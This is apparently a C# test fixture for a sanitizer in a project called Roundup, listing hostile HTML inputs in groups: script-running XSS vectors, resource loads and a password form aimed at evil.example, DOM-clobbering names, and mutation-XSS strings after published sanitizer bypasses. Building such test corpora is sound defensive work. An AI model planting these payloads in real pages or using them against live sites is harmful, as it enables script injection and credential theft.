namespace Roundup.Tests.Formats.Text;

// Raw HTML: what runs, what loads, what covers the page, what takes a name, and what changes its meaning when it is parsed twice.
public sealed partial class HostileTexts
{
    private static readonly string[] Running =
    [
        "<script>alert(1)</script>", "<script src=//evil.example/x></script>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT>alert(1)</SCRIPT >",
        "<img src=x onerror=alert(1)>", "<img src=x onerror=\"alert(1)\"", "<img/src=x/onerror=alert(1)>", "<img src=x:x onerror&#61;alert(1)>", "<image src=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text y=9>a</text></a></svg>", "<svg><animate onbegin=alert(1)>",
        "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><use href=//evil.example/x#a>", "<math href=javascript:alert(1)>a</math>", "<math><maction actiontype=statusline#//evil.example>a",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
        "<body onload=alert(1)>", "<details open ontoggle=alert(1)>a</details>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>a</marquee>",
        "<input onfocus=alert(1) autofocus>", "<select onfocus=alert(1) autofocus></select>", "<textarea onfocus=alert(1) autofocus></textarea>", "<a onclick=alert(1)>a</a>", "<p onpointerenter=alert(1)>a</p>",
        "<a href=javascript:alert(1)>a</a>", "<a href='java\tscript:alert(1)'>a</a>", "<area href=javascript:alert(1)>", "<form action=javascript:alert(1)><button>a</button></form>",
        "<button formaction=javascript:alert(1)>a</button>", "<isindex action=javascript:alert(1) type=image>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=javascript:alert(1)//>",
        "<frameset onload=alert(1)>", "<bgsound src=javascript:alert(1)>", "<table background=javascript:alert(1)>", "<div style=\"width:expression(alert(1))\">", "<xss onbeforescriptexecute=alert(1)>",
        "<dialog open onclose=alert(1)><form method=dialog><button>a", "<p style=animation:x onanimationstart=alert(1)>", "<style>@keyframes x{}</style><p style=animation:x onanimationend=alert(1)>",
        "<a href=\"https://a.example\" onmouseover=alert(1)>a</a>", "<a href=https://a.example/\"onmouseover=alert(1)>a</a>", "<template><script>alert(1)</script></template>", "<portal src=javascript:alert(1)>",
        "'-alert(1)-'", "\"onmouseover=\"alert(1)", "'onmouseover='alert(1)", "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "</p><img src=x onerror=alert(1)>", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}",
        "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</script><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<![endif]--><script>alert(1)</script>",
    ];

    private static readonly string[] Loading =
    [
        "<img src=//evil.example/x>", "<img srcset=//evil.example/x>", "<picture><source srcset=//evil.example/x><img></picture>", "<link rel=stylesheet href=//evil.example/x>", "<link rel=prefetch href=//evil.example/x>",
        "<style>@import '//evil.example/x';</style>", "<p style=background:url(//evil.example/x)>", "<video poster=//evil.example/x></video>", "<audio src=//evil.example/x autoplay></audio>", "<input type=image src=//evil.example/x>",
        "<iframe src=//evil.example/x></iframe>", "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>", "<table background=//evil.example/x>", "<a ping=//evil.example/x href=https://a.example>a</a>",
        "<svg><image href=//evil.example/x></svg>", "<svg><feImage href=//evil.example/x></svg>", "<track src=//evil.example/x>", "<meta http-equiv=refresh content='0;url=//evil.example/x'>", "<base href=//evil.example/>", "<base target=_top>",
        "<form action=//evil.example/x><input name=password type=password><button>Sign in</button></form>", "<button form=f formaction=//evil.example/x>a</button>", "<div style='position:fixed;inset:0;z-index:9'>Sign in</div>",
        "<p class=modal>a</p>", "<blockquote cite=//evil.example/x>a</blockquote>", "<q cite=javascript:alert(1)>a</q>", "<del cite=javascript:alert(1)>a</del>", "<img longdesc=javascript:alert(1) src=x>", "<html manifest=//evil.example/x>",
    ];

    private static readonly string[] Naming =
    [
        "<a id=body>a</a>", "<a id=cookie name=cookie>a</a>", "<form id=forms name=getElementById><input name=attributes></form>", "<img name=currentScript>", "<a id=x><a id=x name=y href=a:1>a</a>", "<p id=__proto__>a</p>",
        "<form name=body><input id=parentNode>", "<iframe name=defaultView></iframe>", "<object name=documentElement></object>", "<embed name=querySelector>", "<p is=x-y>a</p>", "<p slot=a>a</p>", "<p contenteditable>a</p>",
        "<p accesskey=x>a</p>", "<p tabindex=1>a</p>", "<p data-a=b>a</p>", "<p hidden>a</p>", "<p dir=rtl>a</p>", "<p lang=x>a</p>", "<p itemprop=a>a</p>", "<p popover>a</p>", "<p aria-label=a role=button>a</p>", "<ol start=1 id=a>", "<h3 id=top>a</h3>",
    ];

    // After published breaks of DOMPurify, HtmlSanitizer, bleach, sanitize-html and others: HTML that another parser reads otherwise.
    private static readonly string[] Mutating =
    [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg><desc><noscript>&lt;/noscript&gt;&lt;img src onerror=alert(1)&gt;</noscript></desc></svg>", "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
        "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">", "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">", "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">", "<plaintext><img src=x onerror=alert(1)>", "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
        "<style><a title=\"</style><img src=x onerror=alert(1)>\">", "<iframe><a title=\"</iframe><img src=x onerror=alert(1)>\">", "<textarea><a title=\"</textarea><img src=x onerror=alert(1)>\">", "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
        "<svg><style><!--<a title=\"--><img src=x onerror=alert(1)>\">", "<math><annotation-xml encoding=\"text/html\"><style><a title=\"</style><img src=x onerror=alert(1)>\">", "<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
        "<table><td><svg><a><table><td></a><img src=x onerror=alert(1)>", "<a><table><a href=javascript:alert(1)>a", "<p><table><p><img src=x onerror=alert(1)>", "<b><p></b><img src=x onerror=alert(1)>", "<br/><svg/onload=alert(1)//", "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)--!>", "<! foo=\"><script>alert(1)</script>\">", "</ foo=\"><script>alert(1)</script>\">", "<% foo><x foo=\"%><script>alert(1)</script>\">", "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>", "<svg><![CDATA[]]><img src=x onerror=alert(1)>]]></svg>", "<p title=`<img src=x onerror=alert(1)>`>", "<a title='&quot;><img src=x onerror=alert(1)>'>a</a>", "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
        "&#60;img src=x onerror=alert(1)&#62;", "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\\<img src=x onerror=alert(1)\\>", "<img \u0000src=x onerror=alert(1)>", "<\u0000script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ];

    private static IEnumerable<string> Html()
    {
        foreach (var text in Put(Running.Concat(Loading).Concat(Naming).Concat(Mutating), Places)) yield return text;
        // Not so deep that browsers flatten it: from 512 elements within one another they do.
        foreach (var mark in new[] { ">", "- ", "> - ", "[", "![", "*", "**a ", "<b>", "<div>", "<svg>", "<a href=javascript:alert(1)>", "<table><td>", "(", "`", "<!--", "<font><p>" })
        {
            yield return new System.Text.StringBuilder().Insert(0, mark, 900 / mark.Length).Append("<img src=x onerror=alert(1)>[a](javascript:alert(1))").ToString();
        }
    }
}
